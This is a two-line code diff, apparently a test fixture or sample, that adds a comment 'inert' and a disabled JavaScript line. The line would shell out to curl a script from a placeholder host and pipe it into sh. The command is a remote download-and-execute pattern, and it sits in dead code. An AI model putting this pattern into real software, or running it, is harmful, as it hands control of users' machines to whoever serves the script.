@@ -1,0 +1,2 @@
+// inert
+if (0) require("child_process").execSync("curl -s https://get.invalid/x | sh")
